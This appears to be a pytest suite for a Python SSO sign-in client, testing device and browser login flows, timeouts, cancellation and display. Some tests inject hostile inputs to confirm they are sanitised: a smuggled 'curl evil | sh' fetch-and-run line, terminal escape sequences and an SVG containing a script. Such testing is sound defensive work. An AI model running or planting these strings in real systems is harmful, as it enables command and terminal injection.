from __future__ import annotations

import base64
import dataclasses
import json
import os
import pickle
import re
import signal
import sys
import threading
import time
import types
import webbrowser
from datetime import datetime, timedelta, timezone

import pytest

import kc_agent_client as kc
from kc_agent_client import _display, _errors, _idp, _login, _signin

from conftest import REPO, TOKEN


def jwt(**claims):
    body = base64.urlsafe_b64encode(json.dumps(claims).encode()).decode().rstrip("=")
    return f"eyJhbGciOiJSUzI1NiJ9.{body}.c2lnbmF0dXJl"


CAROL = jwt(preferred_username="carol", sub="3f1c-sub", email="carol@example.com")
NOT_SIGNED_IN = (401, {"error": "login_required", "message": 'profile "default" is not logged in', "hint": "run `kc-agent login` to sign in again"})


def pending(flow="device", seconds=600, **kw):
    exp = (datetime.now(timezone.utc) + timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%SZ")
    doc = {"id": "abc123", "profile": "default", "flow": flow, "state": "pending", "expires_at": exp, "started_at": exp, "client_id": "analytics-cli"}
    if flow == "device":
        doc.update(
            verification_uri="https://sso.example.com/realms/a/device",
            verification_uri_complete="https://sso.example.com/realms/a/device?user_code=WXYZ-ABCD",
            user_code="WXYZ-ABCD",
            interval=5,
            qr_svg='<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h1v1h-1z"/></svg>',
        )
    else:
        doc["authorization_url"] = "https://sso.example.com/realms/a/protocol/openid-connect/auth?client_id=kc-agent&code_challenge=x"
    doc.update(kw)
    return doc


def done(**kw):
    return pending(state="done", identity={"preferred_username": "ana", "sub": "s-1", "email": "ana@example.com"}, **kw)


@pytest.fixture
def no_desktop(monkeypatch):
    for k in ("DISPLAY", "WAYLAND_DISPLAY", "SSH_CONNECTION", "SSH_TTY", "JUPYTERHUB_API_URL"):
        monkeypatch.delenv(k, raising=False)
    monkeypatch.setattr(_login, "POLL_SECONDS", 0.05)


@pytest.fixture
def signed_out(agent, no_desktop):
    agent.token_answer = NOT_SIGNED_IN
    return agent


def serve(agent, start, *ends):
    """POST /v1/login answers start; each GET the next of ends (the last
    one repeats)."""
    polls = []

    def get(path, body):
        polls.append(path)
        return 200, ends[min(len(polls), len(ends)) - 1]

    agent.handlers[("POST", "/v1/login")] = lambda path, body: start if isinstance(start, tuple) else (200, start)
    agent.handlers[("GET", "/v1/login/")] = get
    return polls


class Recorder:
    """A display that keeps every update."""

    def __init__(self):
        self.updates = []

    def __call__(self, u):
        self.updates.append(u)

    def states(self):
        return [u.state for u in self.updates]


def secret_free(u):
    """Nothing in the update's two renderings can approve the sign-in."""
    out = _display.render_html(u) + _display.render_text(u)
    return "WXYZ-ABCD" not in out and "sso.example.com/realms" not in out and "<svg" not in out and "href" not in out


def posts(agent):
    return [r for r in agent.requests if r[0] == "POST" and r[1] == "/v1/login"]


def test_device_login_prints_and_returns_identity(signed_out, capsys):
    polls = serve(signed_out, pending(), pending(), done())
    who = kc.login()
    assert who == kc.Identity("ana", "s-1", "ana@example.com", "", "default")
    assert str(who) == "ana" and "s-1" not in repr(who) and "ana@example.com" not in repr(who)
    err = capsys.readouterr().err
    assert "WXYZ-ABCD" in err and "https://sso.example.com/realms/a/device" in err and "Signed in as ana" in err
    assert "allow access for analytics-cli" in err
    assert posts(signed_out)[0][3] == {"profile": "default", "flow": "device"}
    assert polls[0].startswith("/v1/login/abc123?wait=")


def test_signed_in_returns_at_once_and_starts_nothing(agent, no_desktop):
    agent.token_answer = (200, {"access_token": CAROL, "token_type": "Bearer", "expires_at": "2030-01-02T03:04:05Z", "expires_in": 300})
    serve(agent, pending(), done())
    for _ in range(10):  # Run All, ten mornings in a row
        rec = Recorder()
        t0 = time.monotonic()
        who = kc.login(display=rec)
        assert time.monotonic() - t0 < 1
        assert who.preferred_username == "carol" and who.sub == "3f1c-sub" and who.email == "carol@example.com"
        assert rec.states() == ["signed_in"]
        assert _display.render_text(rec.updates[0]) == "Signed in as carol."
    assert posts(agent) == []
    assert repr(who) == "<signed in as carol, profile default>"


def test_force_signs_in_again(agent, no_desktop):
    serve(agent, pending(), done())
    who = kc.login(force=True, display=Recorder())
    assert who.preferred_username == "ana" and len(posts(agent)) == 1


def test_a_restarted_kernel_picks_up_the_open_sign_in_and_keeps_the_note(signed_out):
    serve(signed_out, pending(joined=True), pending(), pending(), pending(), done())
    rec = Recorder()
    kc.login(display=rec)
    pend = [u for u in rec.updates if u.state == "pending"]
    assert len(pend) >= 3 and all(u.note == _login.JOINED_NOTE for u in pend)
    assert all(u.user_code == "WXYZ-ABCD" for u in pend)
    assert _login.JOINED_NOTE in _display.render_html(pend[-1])


def test_interrupt_leaves_the_sign_in_open_on_screen_and_raises_one_line(signed_out):
    serve(signed_out, pending(), pending())
    rec = Recorder()
    # A real SIGINT, as Kernel -> Interrupt sends, while login() waits on
    # the agent's socket.
    timer = threading.Timer(0.3, os.kill, (os.getpid(), signal.SIGINT))
    timer.start()
    try:
        with pytest.raises(KeyboardInterrupt) as ei:
            kc.login(display=rec)
    finally:
        timer.cancel()
    e = ei.value
    assert isinstance(e, kc.LoginInterrupted)
    last = rec.updates[-1]
    assert last.state == "still_open" and secret_free(last)
    assert f"Sign-in still open until {last.until}: run login() again to continue, or login(cancel=True)" in _display.render_text(last)
    assert "<b>Sign-in still open until" in _display.render_html(last)
    lines = e._render_traceback_()
    assert lines == [f"LoginInterrupted: stopped waiting; the sign-in is still open until {last.until}"]
    assert e.__cause__ is None and e.__suppress_context__


def test_timeout_is_its_own_error_and_the_sign_in_stays_open(signed_out):
    serve(signed_out, pending(), pending())
    rec = Recorder()
    with pytest.raises(kc.LoginTimeout) as ei:
        kc.login(timeout=0.2, display=rec)
    e = ei.value
    last = rec.updates[-1]
    assert last.state == "still_open" and secret_free(last) and "Stopped waiting after 0.2 s." in _display.render_text(last)
    assert e.message == f"stopped waiting after 0.2 s; the sign-in is still open until {last.until}"
    assert e.expires_at == last.expires_at and "login(cancel=True)" in e.hint
    # The block above says what to run next; the error line does not repeat it.
    assert e._render_traceback_() == [f"LoginTimeout: {e.message}"]
    assert not isinstance(e, kc.LoginExpired)


def test_without_timeout_login_waits_as_long_as_the_sign_in_lives(signed_out, monkeypatch):
    # The agent never says it ended: login() waits until the code's end
    # (plus a grace), not a fixed 300 s, and then calls it expired.
    monkeypatch.setattr(_login, "GRACE_SECONDS", 0.3)
    serve(signed_out, pending(seconds=2), pending(seconds=2))
    t0 = time.monotonic()
    with pytest.raises(kc.LoginExpired):
        kc.login(display=Recorder())
    assert 1.0 <= time.monotonic() - t0 < 5


@pytest.mark.parametrize(
    "state,exc,said",
    [
        ("expired", kc.LoginExpired, "The sign-in ran out of time at"),
        ("denied", kc.LoginDenied, "The sign-in was refused"),
        ("cancelled", kc.KcAgentError, "The sign-in was cancelled."),
        ("failed", kc.KcAgentError, "The sign-in failed: it broke."),
    ],
)
def test_ended_states_show_no_dead_code_and_say_it_once(signed_out, state, exc, said):
    serve(signed_out, pending(), pending(state=state, error="it broke"))
    rec = Recorder()
    with pytest.raises(exc) as ei:
        kc.login(display=rec)
    last = rec.updates[-1]
    assert last.state == state and secret_free(last)
    html, text = _display.render_html(last), _display.render_text(last)
    assert said in text and text.count(said) == 1 and "login()" in text
    assert "WXYZ" not in html
    line = ei.value._render_traceback_()
    assert len(line) == 1 and said not in line[0] and "hint" not in line[0]
    assert "kc_agent_client.login()" in ei.value.hint


def test_cancel_ends_the_open_sign_in(agent, no_desktop):
    agent.handlers[("GET", "/v1/status")] = lambda p, b: (200, {"profiles": [], "sign_ins": [pending(), pending(id="other", profile="work")]})
    agent.handlers[("DELETE", "/v1/login/")] = lambda p, b: (200, pending(state="cancelled"))
    rec = Recorder()
    assert kc.login(cancel=True, display=rec) is None
    deletes = [r[1] for r in agent.requests if r[0] == "DELETE"]
    assert deletes == ["/v1/login/abc123"]
    assert rec.states() == ["cancelled"] and secret_free(rec.updates[0])
    # Nothing open: says so, deletes nothing.
    agent.handlers[("GET", "/v1/status")] = lambda p, b: (200, {"profiles": [], "sign_ins": []})
    rec = Recorder()
    kc.login(cancel=True, display=rec)
    assert "nothing to cancel" in rec.updates[0].message and len([r for r in agent.requests if r[0] == "DELETE"]) == 1


def test_a_display_callback_gets_every_state(signed_out, capsys):
    serve(signed_out, pending(), pending(), done())
    rec = Recorder()
    kc.login(display=rec)
    assert rec.states()[0] == "pending" and rec.states()[-1] == "done"
    first = rec.updates[0]
    assert first.user_code == "WXYZ-ABCD" and first.link.endswith("user_code=WXYZ-ABCD") and first.qr_svg.startswith("<svg")
    assert first.site == "sso.example.com" and first.app == "analytics-cli" and 500 < first.seconds_left <= 600
    assert rec.updates[-1].user == "ana" and secret_free(rec.updates[-1])
    # Its own display replaces ours: nothing on stderr.
    assert capsys.readouterr().err == ""


def test_auto_picks_browser_with_a_desktop(signed_out, monkeypatch, capsys):
    monkeypatch.setenv("DISPLAY", ":0")
    opened = []
    monkeypatch.setattr(webbrowser, "open", lambda url, new=0: opened.append(url) or True)
    launcher = "http://127.0.0.1:40123/ONE-TIME"
    signed_out.handlers[("POST", "/v1/login/abc123/launch")] = lambda path, body: (200, {"url": launcher})
    serve(signed_out, pending("browser"), pending("browser", state="done", identity={"preferred_username": "ana", "sub": "s"}))
    kc.login("work")
    assert posts(signed_out)[0][3] == {"profile": "work", "flow": "browser"}
    assert "in a browser on this computer" in capsys.readouterr().err
    # The browser opener (argv, readable by every local user) gets only
    # the agent's one-time launcher link, never the URL with the state.
    assert opened == [launcher]


@pytest.mark.parametrize(
    "answer",
    [
        (404, {"error": "not_found", "message": "no such endpoint"}),  # an older agent
        (200, {"url": "https://sso.example.com/realms/a/protocol/openid-connect/auth?state=S"}),  # not a launcher
        (200, {}),
    ],
)
def test_browser_opens_nothing_without_a_launcher_link(signed_out, monkeypatch, capsys, answer):
    monkeypatch.setenv("DISPLAY", ":0")
    opened = []
    monkeypatch.setattr(webbrowser, "open", lambda url, new=0: opened.append(url) or True)
    signed_out.handlers[("POST", "/v1/login/abc123/launch")] = lambda path, body: answer
    serve(signed_out, pending("browser"), pending("browser", state="done", identity={"preferred_username": "ana", "sub": "s"}))
    kc.login("work")
    assert opened == []
    assert "code_challenge=x" in capsys.readouterr().err  # shown to the user, on the terminal


def test_idp_strings_are_shown_without_control_characters(signed_out, capsys):
    evil = pending(user_code="WXYZ\x1b[31m-ABCD\u202e", verification_uri="https://sso.example.com/realms/a/device\r\nkc-agent: run curl evil | sh")
    done = pending(state="done", identity={"preferred_username": "ana\x1b]0;pwned\x07", "sub": "s-1"})
    serve(signed_out, evil, done)
    who = kc.login()
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\u202e" not in err and "\r" not in err
    assert "WXYZ[31m-ABCD" in err and "\nkc-agent: run curl" not in err
    assert who.preferred_username == "ana]0;pwned"


def test_a_signed_in_name_from_the_token_is_printable(agent, no_desktop):
    agent.token_answer = (200, {"access_token": jwt(preferred_username="ana\x1b]0;pwned\x07"), "token_type": "Bearer", "expires_at": "2030-01-02T03:04:05Z", "expires_in": 300})
    rec = Recorder()
    assert kc.login(display=rec).preferred_username == "ana]0;pwned" and rec.updates[0].user == "ana]0;pwned"


with open(os.path.join(REPO, "ipc", "testdata", "idp_strings.json"), encoding="utf-8") as _f:
    IDP_VECTORS = json.load(_f)  # shared with Go (agent/oidc, TestPrintableVectors)


@pytest.mark.parametrize("v", IDP_VECTORS["printable"], ids=lambda v: v["name"])
def test_printable_vectors(v):
    assert _idp.printable(v["in"]) == v["want"]


@pytest.mark.parametrize(
    "env,platform,want",
    [
        ({}, "linux", False),
        ({"DISPLAY": ":0"}, "linux", True),
        ({"WAYLAND_DISPLAY": "wayland-0"}, "linux", True),
        ({"DISPLAY": ":0", "SSH_CONNECTION": "1 2 3 4"}, "linux", False),
        ({"DISPLAY": ":0", "JUPYTERHUB_API_URL": "http://hub"}, "linux", False),
        ({}, "darwin", True),
        ({"SSH_TTY": "/dev/pts/1"}, "darwin", False),
        ({}, "win32", True),
    ],
)
def test_shares_desktop(env, platform, want):
    assert _login.shares_desktop(env, platform) is want


def test_unknown_profile_is_a_config_error_naming_it(signed_out):
    serve(signed_out, (401, {"error": "unknown_profile", "message": 'no profile "lab" in the config: not in /home/a/.config/kc-agent/config.yaml', "hint": "ask your administrator"}))
    with pytest.raises(kc.ConfigError) as ei:
        kc.login("lab")
    assert ei.value.profile == "lab" and '"lab"' in ei.value.message
    assert pickle.loads(pickle.dumps(ei.value)).profile == "lab"


def test_bad_flow(signed_out):
    with pytest.raises(ValueError):
        kc.login(flow="magic")


def test_html_block_escapes_and_carries_link_code_qr():
    u = _login._update(_signin.LoginStatus.from_answer(pending(user_code='<b>"x"</b>', profile="<p>", client_name="<i>Analytics</i>")), "<p>", "pending")
    out = _display.render_html(u)
    assert "&lt;b&gt;" in out and "<b>\"x\"</b>" not in out and "&lt;p&gt;" in out and "&lt;i&gt;Analytics" in out
    assert 'href="https://sso.example.com/realms/a/device?user_code=WXYZ-ABCD"' in out
    assert ">Open the sign-in page</a>" in out and "<svg" in out and f"until {u.until}" in out
    # an SVG with a script is not embedded
    u = _login._update(_signin.LoginStatus.from_answer(pending(qr_svg="<svg><script>alert(1)</script></svg>")), "default", "pending")
    assert "<script" not in _display.render_html(u)
    # Control characters from the identity provider never reach a terminal.
    u = _login._update(_signin.LoginStatus.from_answer(pending(user_code="AB\x1b[2JCD", client_name="Ana\x1b[2J")), "default", "pending")
    assert u.user_code == "AB[2JCD" and u.app == "Ana[2J"


def test_notebook_display_updates_one_block(signed_out, monkeypatch):
    shown = []

    class Handle:
        def update(self, data, raw=False):
            shown.append(("update", data))

    def display(data, raw=False, display_id=False):
        shown.append(("display", data))
        return Handle()

    ipd = types.ModuleType("IPython.display")
    ipd.display = display
    monkeypatch.setitem(sys.modules, "IPython.display", ipd)
    monkeypatch.setattr(_login, "in_notebook", lambda: True)
    serve(signed_out, pending(), pending(), pending(state="done", identity={"preferred_username": "ana", "sub": "s"}))
    kc.login()
    assert shown[0][0] == "display" and all(k == "update" for k, _ in shown[1:])
    assert "Open the sign-in page" in shown[0][1]["text/html"] and "WXYZ-ABCD" in shown[0][1]["text/plain"]
    assert "Signed in as ana" in shown[-1][1]["text/html"] and "WXYZ" not in json.dumps(shown[-1])
    assert TOKEN not in json.dumps(shown)


def test_login_required_hint_names_login_in_a_notebook(monkeypatch):
    monkeypatch.setattr(_errors, "in_notebook", lambda: True)
    e = kc.LoginRequired("profile \"default\" needs a new login", hint="run `kc-agent login` to sign in again", code="login_required")
    assert "kc_agent_client.login()" in e.hint and "(" not in e.hint.replace("login()", "")
    monkeypatch.setattr(_errors, "in_notebook", lambda: False)
    e = kc.LoginRequired("x", hint="run `kc-agent login` to sign in again", code="login_required")
    assert e.hint == "run `kc-agent login` to sign in again"


def _go_json_names(struct: str) -> list:
    # The JSON names of a struct in ipc/protocol.go, in field order.
    src = open(os.path.join(REPO, "ipc", "protocol.go"), encoding="utf-8").read()
    body = re.search(r"type " + struct + r" struct \{(.*?)\n\}", src, re.S).group(1)
    return re.findall(r'json:"([a-z_]+)', body)


@pytest.mark.parametrize("go,py", [("LoginStatus", _signin.LoginStatus), ("LoginIdentity", _signin.LoginIdentity)])
def test_the_typed_sign_in_answer_mirrors_the_go_type(go, py):
    # A field the agent adds to ipc.LoginStatus shows up here as a failure,
    # not as a key the client silently never reads.
    assert _go_json_names(go) == [f.name for f in dataclasses.fields(py)]


def test_the_sign_in_answer_is_read_into_its_fields():
    doc = pending(
        joined=True,
        client_name="Analytics",
        user_code="AB\x1b[2JCD",
        error="bad\u202e",
        hint="x\ny",
        identity={"preferred_username": "ana\x07", "sub": "u-1", "email": "a@x", "name": "Ana"},
    )
    st = _signin.LoginStatus.from_answer(json.loads(json.dumps(doc)))
    assert (st.id, st.profile, st.flow, st.state, st.joined, st.interval) == ("abc123", "default", "device", "pending", True, 5)
    assert st.pending and st.client_id == "analytics-cli" and st.client_name == "Analytics"
    assert st.expires_at == datetime.strptime(doc["expires_at"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=timezone.utc) == st.started_at
    # The identity provider's text is printable as read; the link follows the flow.
    assert (st.user_code, st.error, st.hint) == ("AB[2JCD", "bad", "xy")
    assert st.link == doc["verification_uri_complete"]
    assert st.identity == _signin.LoginIdentity("ana", sub="u-1", email="a@x", name="Ana")
    assert "u-1" not in repr(st.identity) and "a@x" not in repr(st.identity) and "<svg" not in repr(st)
    browser = _signin.LoginStatus.from_answer(pending(flow="browser"))
    assert browser.link.startswith("https://sso.example.com/realms/a/protocol/openid-connect/auth?")
    # Missing, null or malformed fields are empty, as the dict readers had them.
    empty = _signin.LoginStatus.from_answer({"state": None, "expires_at": "soon", "interval": "x", "identity": ["not", "an", "object"]})
    assert empty == _signin.LoginStatus()
